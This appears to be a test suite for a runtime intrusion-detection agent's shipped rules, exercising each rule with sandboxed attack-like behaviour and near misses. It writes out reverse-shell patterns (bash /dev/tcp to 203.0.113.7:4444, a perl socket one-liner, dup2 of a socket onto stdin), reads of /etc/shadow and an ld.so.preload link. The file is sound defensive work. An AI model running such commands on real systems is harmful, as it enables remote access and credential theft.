// Each rule that ships: real behaviour that it reports, and behaviour that comes close and that it does not.

import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { linkSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { after, before, describe, test } from 'node:test';
import { promisify } from 'node:util';
import { event, moduleOf, process, startBuiltAgent } from '../support/built-agent.ts';
import { act, actProgram, copyAct, makeDirectory, type RunningAct, type Step, str } from '../support/live-act.ts';
import type { LiveAgent } from '../support/live-agent.ts';
import { Container } from '../support/live-container.ts';
import { hasSyscallEvents } from '../support/live-kernel.ts';
import {
  AF_INET,
  AT_EMPTY_PATH,
  AT_FDCWD,
  CLONE_NEWNS,
  errno,
  MS_BIND,
  MS_PRIVATE,
  MS_REC,
  O,
  SOCK_STREAM,
} from '../support/live-numbers.ts';
import { shippedRules, startWithShippedRules } from '../support/live-rules.ts';

const execute = promisify(execFile);
const folder = makeDirectory();
const directory = folder.path;

let agent: LiveAgent;
/** busybox, and act in the place of a server. */
let box: Container;
/** With bash, perl and Debian's package tools, and a network of its own that has an address "outside". */
let debian: Container;
before(async () => {
  agent = await startWithShippedRules();
  box = new Container();
  debian = new Container({
    root: 'host',
    capabilities: ['CAP_NET_ADMIN', 'CAP_DAC_OVERRIDE', 'CAP_CHOWN', 'CAP_FOWNER', 'CAP_SETUID', 'CAP_SETGID'],
  });
});
after(async () => {
  await agent.stop();
  box.stop();
  debian.stop();
  folder.remove();
});

/** What is printed by an alert of that rule for the process with that command line. */
async function reported(rule: string, cmdline: string, container: string): Promise<Readonly<Record<string, unknown>>> {
  const { output_fields: fields } = await agent.only(rule, { 'proc.cmdline': cmdline, 'container.id': container });
  return fields;
}

async function notReported(rule: string, cmdline: string): Promise<void> {
  await agent.none(rule, { 'proc.cmdline': cmdline });
}

/** As a server would: a child of act that becomes another program. */
function startProgram(...words: string[]): Step[] {
  return [['@fork'], ['execve', str(words[0] ?? ''), `list:${words.join(',')}`, 'null']];
}

describe('Terminal shell in container', () => {
  const rule = 'Terminal shell in container';
  test('a shell that the runtime starts with a terminal', async () => {
    await box.exec(['/bin/sh', '-c', 'true by-hand'], { tty: true });
    const fields = await reported(rule, 'sh -c true by-hand', box.shortId);
    assert.notEqual(fields['proc.tty'], 0n);
  });
  test('not: without a terminal; another program with one; a shell with one outside of containers', async () => {
    await box.exec(['/bin/sh', '-c', 'true no-terminal']);
    await box.exec(['/bin/true', 'no-shell'], { tty: true });
    await execute('script', ['-qec', "sh -c 'true on-the-host'", '/dev/null']);
    await notReported(rule, 'sh -c true no-terminal');
    await notReported(rule, 'true no-shell');
    await notReported(rule, 'sh -c true on-the-host');
  });
  test('not: the shells that such a shell starts', async () => {
    await box.exec(['/bin/sh', '-c', 'sh -c "true nested"; true'], { tty: true });
    await notReported(rule, 'sh -c true nested');
  });
});

describe('Shell spawned in container', () => {
  const rule = 'Shell spawned in container';
  test('by a program that is no shell', async () => {
    await box.act(startProgram('/bin/sh', '-c', 'true injected'));
    const fields = await reported(rule, 'sh -c true injected', box.shortId);
    assert.equal(fields['proc.pname'], 'act');
  });
  test('not: by the runtime, by a shell, by a program that runs commands for a living; outside of containers', async () => {
    await box.exec(['/bin/sh', '-c', 'true probe']);
    await box.exec(['/bin/sh', '-c', 'sh -c "true by-shell"; true']);
    await box.exec(['/bin/sh', '-c', 'echo by-xargs | xargs sh -c true']);
    await act(startProgram('/bin/sh', '-c', 'true on-the-host'));
    await notReported(rule, 'sh -c true probe');
    await notReported(rule, 'sh -c true by-shell');
    await notReported(rule, 'sh -c true by-xargs');
    await notReported(rule, 'sh -c true on-the-host');
  });
});

describe('Package management in container', () => {
  const rule = 'Package management in container';
  test('a package is to be installed', async () => {
    await debian.exec(['/usr/bin/apt-get', 'install', '--yes', 'wasprey-no-such-package'], { mayFail: true });
    await reported(rule, 'apt-get install --yes wasprey-no-such-package', debian.shortId);
    await debian.exec(['/usr/bin/dpkg', '--install', '/tmp/none.deb'], { mayFail: true });
    await reported(rule, 'dpkg --install /tmp/none.deb', debian.shortId);
  });
  test('not: a question; the same outside of containers', async () => {
    await debian.exec(['/usr/bin/dpkg', '--list', 'apt'], { mayFail: true });
    await debian.exec(['/usr/bin/apt-get', '--version'], { mayFail: true });
    await execute('apt-get', ['--simulate', 'install', 'wasprey-no-such-package']).catch(() => {});
    await notReported(rule, 'dpkg --list apt');
    await notReported(rule, 'apt-get --version');
    await notReported(rule, 'apt-get --simulate install wasprey-no-such-package');
  });
});

describe('Dropped program run in container', () => {
  const rule = 'Dropped program run in container';
  test('a program that was copied in', async () => {
    await box.exec(['/bin/cp', '/usr/bin/act', '/tmp/dropped']);
    await box.exec(['/tmp/dropped', 'close', '77']);
    const fields = await reported(rule, 'dropped close 77', box.shortId);
    assert.equal(fields['proc.exepath'], '/tmp/dropped');
  });
  test('not: one of the image; a new one outside of containers', async () => {
    await box.exec(['/usr/bin/act', 'close', '78']);
    await act([['close', 79]], { program: copyAct(directory, 'new-on-host') });
    await notReported(rule, 'act close 78');
    await notReported(rule, 'new-on-host close 79');
  });
});

describe('Program run from memory', () => {
  const rule = 'Program run from memory';
  const copy: Step[] = [
    ['openat', AT_FDCWD, str(actProgram()), O.RDONLY],
    ['memfd_create', str('payload'), 0],
    ['sendfile', 'r1', 'r0', 'null', 100_000_000],
  ];
  test('a program in a memfd', async () => {
    await act([...copy, ['execveat', 'r1', str(''), 'list:memory,close,77', 'null', AT_EMPTY_PATH]]);
    const { output_fields: fields } = await agent.only(rule, { 'proc.exepath': 'memfd:payload' });
    assert.equal(fields['proc.exe'], 'memory');
  });
  test('not: a memfd that holds data; a file by its descriptor; the runtime, which runs its own copy', async () => {
    await act([...copy, ['execveat', 'r0', str(''), 'list:descriptor,close,78', 'null', AT_EMPTY_PATH]]);
    await box.exec(['/bin/true']);
    await agent.settled();
    const others = agent.alerts(rule).filter((alert) => alert.output_fields['proc.exepath'] !== 'memfd:payload');
    assert.deepEqual(
      others.map((alert) => alert.output),
      [],
    );
  });
});

describe('Sensitive file read', () => {
  const rule = 'Sensitive file read';
  test('cat /etc/shadow', async () => {
    await execute('cat', ['/etc/shadow']);
    const fields = await reported(rule, 'cat /etc/shadow', 'host');
    assert.equal(fields['fd.realpath'], '/etc/shadow');
    assert.equal(fields['user.name'], 'root');
  });
  test('in a container', async () => {
    await box.exec(['/bin/cat', '/etc/shadow']);
    await reported(rule, 'cat /etc/shadow', box.shortId);
  });
  test('through a symbolic link, and by a way round', async () => {
    symlinkSync('/etc/shadow', `${directory}/innocent`);
    await execute('cat', [`${directory}/innocent`]);
    await reported(rule, `cat ${directory}/innocent`, 'host');
    await execute('cat', ['/etc/../etc//shadow']);
    await reported(rule, 'cat /etc/../etc//shadow', 'host');
  });
  test('by a program that only has the name of a trusted one', async () => {
    await act([['openat', AT_FDCWD, str('/etc/shadow'), O.RDONLY]], { program: copyAct(directory, 'sshd') });
    const { output_fields: fields } = await agent.only(rule, { 'proc.name': 'sshd' });
    assert.equal(fields['proc.exepath'], `${directory}/sshd`);
  });
  test('not: by a tool that is there for it; another file; without success', async () => {
    await execute('chage', ['--list', 'root']);
    await execute('cat', ['/etc/passwd']);
    writeFileSync(`${directory}/shadow`, '');
    await execute('cat', [`${directory}/shadow`]);
    await act([['openat', AT_FDCWD, str('/etc/shadow'), O.RDONLY]], { uid: 12345, gid: 12345 });
    await act([['openat', AT_FDCWD, str('/etc/shadow'), O.PATH]], { program: copyAct(directory, 'looker') });
    await notReported(rule, 'chage --list root');
    await notReported(rule, 'cat /etc/passwd');
    await notReported(rule, `cat ${directory}/shadow`);
    await agent.none(rule, { 'proc.name': 'act' });
  });
});

/** In a mount namespace of its own, where an empty directory lies over `path`: nothing of this machine is changed. */
function overlaid(path: string): Step[] {
  const empty = `${directory}/over${path.replaceAll('/', '-')}`;
  mkdirSync(empty, { recursive: true });
  return [
    ['unshare', CLONE_NEWNS],
    ['mount', 'null', str('/'), 'null', MS_REC | MS_PRIVATE, 'null'],
    ['mount', str(empty), str(path), 'null', MS_BIND, 'null'],
  ];
}

describe('File below /etc written', () => {
  const rule = 'File below /etc written';
  test('made by a shell, in a container', async () => {
    await box.exec(['/bin/sh', '-c', 'echo evil > /etc/profile']);
    const fields = await reported(rule, 'sh -c echo evil > /etc/profile', box.shortId);
    assert.equal(fields['fd.name'], '/etc/profile');
  });
  test('renamed and linked into place', async () => {
    writeFileSync(`${box.root}/tmp/cron`, 'evil');
    await box.exec(['/bin/mv', '/tmp/cron', '/etc/crontab']);
    assert.equal((await reported(rule, 'mv /tmp/cron /etc/crontab', box.shortId))['fs.path.target'], '/etc/crontab');
    await box.exec(['/bin/ln', '-s', '/tmp/evil', '/etc/ld.so.preload']);
    assert.equal(
      (await reported(rule, 'ln -s /tmp/evil /etc/ld.so.preload', box.shortId))['fs.path.source'],
      '/etc/ld.so.preload',
    );
  });
  test('on the host, by a path that hides it', async () => {
    await act([...overlaid('/etc'), ['openat', AT_FDCWD, str('//tmp/../etc/./new'), O.WRONLY | O.CREAT, 0o600]], {
      program: copyAct(directory, 'etc-writer'),
    });
    const { output_fields: fields } = await agent.only(rule, { 'proc.name': 'etc-writer' });
    assert.equal(fields['fd.name'], '/etc/new');
    assert.equal(fields['container.id'], 'host');
  });
  test('not: read; another etc; a write that fails; a tool that is there for it', async () => {
    await box.exec(['/bin/cat', '/etc/group']);
    await box.exec(['/bin/mkdir', '/tmp/etc']);
    await box.exec(['/bin/sh', '-c', 'echo > /tmp/etc/profile']);
    await box.exec(['/bin/sh', '-c', 'echo > /etc/group'], { user: '1234:1234', mayFail: true });
    await debian.exec(['/usr/sbin/groupadd', 'tester'], { mayFail: true });
    await notReported(rule, 'cat /etc/group');
    await notReported(rule, 'sh -c echo > /tmp/etc/profile');
    await notReported(rule, 'sh -c echo > /etc/group');
    await notReported(rule, 'groupadd tester');
  });
});

describe('System program changed', () => {
  const rule = 'System program changed';
  for (const [what, command] of [
    ['written', 'cp /usr/bin/act /bin/new'],
    ['given other permissions', 'chmod 4755 /bin/busybox'],
    ['renamed', 'mv /bin/ls /bin/ls.old'],
    ['deleted', 'rm /bin/ps'],
    ['linked into place', 'ln -s /tmp/evil /usr/bin/sudo'],
  ] as const) {
    test(`${what}, in a container`, async () => {
      await box.exec([`/bin/${command.split(' ')[0]}`, ...command.split(' ').slice(1)]);
      await agent.settled();
      const alerts = agent.alerts(rule, { 'proc.cmdline': command, 'container.id': box.shortId });
      assert.ok(alerts.length > 0, `no alert for ${command}`);
    });
  }
  test('on the host', async () => {
    await act([...overlaid('/usr/local/bin'), ['creat', str('/usr/local/bin/ls'), 0o755]], {
      program: copyAct(directory, 'bin-writer'),
    });
    await agent.only(rule, { 'proc.name': 'bin-writer', 'fs.path.name': '/usr/local/bin/ls' });
  });
  test('not: read; a link to one; files elsewhere; a change that fails', async () => {
    await box.exec(['/bin/cat', '/bin/busybox']);
    await box.exec(['/bin/ln', '-s', '/bin/sh', '/tmp/shell']);
    await box.exec(['/bin/cp', '/bin/busybox', '/tmp/bb']);
    await box.exec(['/bin/chmod', '755', '/tmp/bb']);
    await box.exec(['/bin/rm', '/tmp/bb']);
    await box.exec(['/bin/rm', '-f', '/bin/date'], { user: '1234:1234', mayFail: true });
    await notReported(rule, 'cat /bin/busybox');
    await notReported(rule, 'ln -s /bin/sh /tmp/shell');
    await notReported(rule, 'chmod 755 /tmp/bb');
    await notReported(rule, 'cp /bin/busybox /tmp/bb');
    await notReported(rule, 'rm /tmp/bb');
    await notReported(rule, 'rm -f /bin/date');
  });
  test('not: a package manager at work', async () => {
    linkSync(copyAct(directory, 'helper'), `${directory}/postinst`);
    const steps = [
      ...overlaid('/usr/local/bin'),
      ['@exec', `${directory}/postinst`, 'postinst'],
      ['creat', str('/usr/local/bin/x'), 0o755],
    ];
    await act(steps as Step[], { program: copyAct(directory, 'installer') });
    await agent.only(rule, { 'proc.name': 'postinst' });
    // The same below a process called dpkg.
    await act(
      [
        ...overlaid('/usr/local/bin'),
        ['@fork'],
        ['@exec', `${directory}/helper`, 'helper'],
        ['creat', str('/usr/local/bin/y'), 0o755],
      ],
      {
        program: copyAct(directory, 'dpkg'),
      },
    );
    await agent.none(rule, { 'proc.name': 'helper' });
  });
});

describe('shells and the network', () => {
  const OUTSIDE = '203.0.113.7';
  const INSIDE = '10.1.2.3';
  const PORT = 4444;
  const connection = 'Outbound connection of a shell';
  const streams = 'Standard streams redirected to a connection';
  let listener: RunningAct;
  before(async () => {
    // Both addresses are on the loopback device of the container's own network.
    for (const words of [
      ['link', 'set', 'lo', 'up'],
      ['addr', 'add', `${OUTSIDE}/32`, 'dev', 'lo'],
      ['addr', 'add', `${INSIDE}/32`, 'dev', 'lo'],
    ]) {
      await debian.exec(['/usr/bin/busybox', 'ip', ...words]);
    }
    listener = debian.startAct(
      [
        ['socket', AF_INET, SOCK_STREAM, 0],
        ['bind', 'r0', `in:0.0.0.0:${PORT}`, 'len'],
        ['listen', 'r0', 50],
        ['@wait'],
      ],
      { program: '/opt/act' },
    );
    await listener.place();
  });
  after(() => listener.end());
  const connect = (address: string): Step[] => [
    ['socket', AF_INET, SOCK_STREAM, 0],
    ['connect', 'r0', `in:${address}:${PORT}`, 'len'],
  ];

  test('bash connects outside', async () => {
    await debian.exec(['/bin/bash', '-c', `exec 5<>/dev/tcp/${OUTSIDE}/${PORT}`]);
    const fields = await reported(connection, `bash -c exec 5<>/dev/tcp/${OUTSIDE}/${PORT}`, debian.shortId);
    assert.equal(fields['fd.sip'], OUTSIDE);
    assert.equal(fields['fd.sport'], BigInt(PORT));
  });
  test('a one-line program of a shell connects outside', async () => {
    const program = `use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(${PORT}, inet_aton("${OUTSIDE}"))) or die`;
    await debian.exec(['/bin/bash', '-c', `perl -e '${program}'; true`]);
    await reported(connection, `perl -e ${program}`, debian.shortId);
  });
  test('not: inside; a program that is neither; an interpreter with a program in a file', async () => {
    await debian.exec(['/bin/bash', '-c', `exec 5<>/dev/tcp/${INSIDE}/${PORT}`]);
    await debian.act(connect(OUTSIDE), { program: '/opt/act' });
    const program = `use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(${PORT}, inet_aton("${OUTSIDE}"))) or die;`;
    writeFileSync(`${debian.root}/tmp/client.pl`, program);
    await debian.exec(['/bin/bash', '-c', 'perl /tmp/client.pl; true']);
    await notReported(connection, `bash -c exec 5<>/dev/tcp/${INSIDE}/${PORT}`);
    await notReported(connection, 'perl /tmp/client.pl');
    await agent.none(connection, { 'proc.name': 'act' });
  });

  test('a connection becomes standard input', async () => {
    await debian.exec(['/bin/bash', '-c', `exec 0<>/dev/tcp/${OUTSIDE}/${PORT}`]);
    await agent.settled();
    const alerts = agent.alerts(streams, { 'container.id': debian.shortId, 'proc.name': 'bash' });
    assert.ok(alerts.length > 0, 'no alert of bash');
    assert.match(String(alerts[0]?.output_fields['fd.name']), new RegExp(`->${OUTSIDE}:${PORT}$`));
  });
  test('on the host: by dup2, as a reverse shell in C does', async () => {
    await act(
      [
        ['socket', AF_INET, SOCK_STREAM, 0],
        ['bind', 'r0', 'in:127.0.0.1:0', 'len'],
        ['listen', 'r0', 1],
        ['socket', AF_INET, 2, 0],
        ['connect', 'r3', 'in:127.0.0.1:9', 'len'],
        ['dup2', 'r3', 0],
      ],
      { program: copyAct(directory, 'reverse') },
    );
    await agent.only(streams, { 'proc.name': 'reverse', 'evt.rawres': 0n });
  });
  test('not: a file; another descriptor; a socket that listens', async () => {
    await act(
      [
        ['openat', AT_FDCWD, str('/etc/passwd'), O.RDONLY],
        ['dup2', 'r0', 0],
        ['socket', AF_INET, 2, 0],
        ['connect', 'r2', 'in:127.0.0.1:9', 'len'],
        ['dup2', 'r2', 7],
        ['socket', AF_INET, SOCK_STREAM, 0],
        ['bind', 'r5', 'in:127.0.0.1:0', 'len'],
        ['listen', 'r5', 1],
        ['dup2', 'r5', 0],
      ],
      { program: copyAct(directory, 'server') },
    );
    await agent.none(streams, { 'proc.name': 'server' });
  });
});

describe('Kernel module loaded', () => {
  const rule = 'Kernel module loaded';
  // Loading a module for a test would be no good, and many kernels have none to load: here the events are the builder's, evaluated
  // by the real module of the shipped rules.
  const file = { kind: 'f'.charCodeAt(0), raw: '/tmp/m.ko', name: '/tmp/m.ko' };
  const programs = [
    process(1, { comm_bytes: 'bash', argv: 'bash\0', executable: '/usr/bin/bash' }),
    process(2, { comm_bytes: 'insmod', argv: 'insmod\0m.ko\0', executable: '/usr/bin/kmod', parent: 1 }),
    process(3, { comm_bytes: 'modprobe', argv: 'modprobe\0m\0', executable: '/tmp/modprobe', parent: 1 }),
    process(4, { comm_bytes: 'systemd-udevd', argv: 'udevd\0', executable: '/usr/lib/systemd/systemd-udevd' }),
    process(5, { comm_bytes: 'modprobe', argv: 'modprobe\0driver\0', executable: '/usr/bin/kmod', parent: 4 }),
    process(6, { comm_bytes: 'dpkg', argv: 'dpkg\0', executable: '/usr/bin/dpkg' }),
    process(7, { comm_bytes: 'dkms', argv: 'dkms\0', executable: '/usr/bin/dash', parent: 6 }),
  ];
  test('by hand, or by what only has the name of a loader; not for the system, nor at an installation', async () => {
    await using built = await startBuiltAgent([await moduleOf(shippedRules().join('\n'))]);
    built.agent.inject(
      programs,
      [2, 3, 5, 7].map((image) => event('finit_module', image, { result: 0, ...file })),
    );
    built.agent.inject([], [event('init_module', 2, { result: 0 })]);
    await built.waitForLines(3);
    await built.agent.stop();
    const alerts = built
      .jsonLines()
      .map((line) => JSON.parse(line) as { rule: string; output_fields: Record<string, unknown> });
    assert.deepEqual(
      alerts.map((alert) => [alert.rule, alert.output_fields['proc.cmdline'], alert.output_fields['evt.type']]),
      [
        [rule, 'insmod m.ko', 'finit_module'],
        [rule, 'modprobe m', 'finit_module'],
        [rule, 'insmod m.ko', 'init_module'],
      ],
    );
  });
  test('an attempt on this kernel', async () => {
    const loader = copyAct(directory, 'loader');
    const calls = await act(
      [
        ['openat', AT_FDCWD, str('/etc/passwd'), O.RDONLY],
        ['finit_module', 'r0', str(''), 0],
      ],
      { program: loader },
    );
    // A kernel without modules has no such call, so that nothing can be seen of it.
    if (hasSyscallEvents('finit_module')) await agent.only(rule, { 'proc.name': 'loader', 'evt.type': 'finit_module' });
    else assert.equal(calls[1]?.result, -errno('ENOSYS'));
  });
});
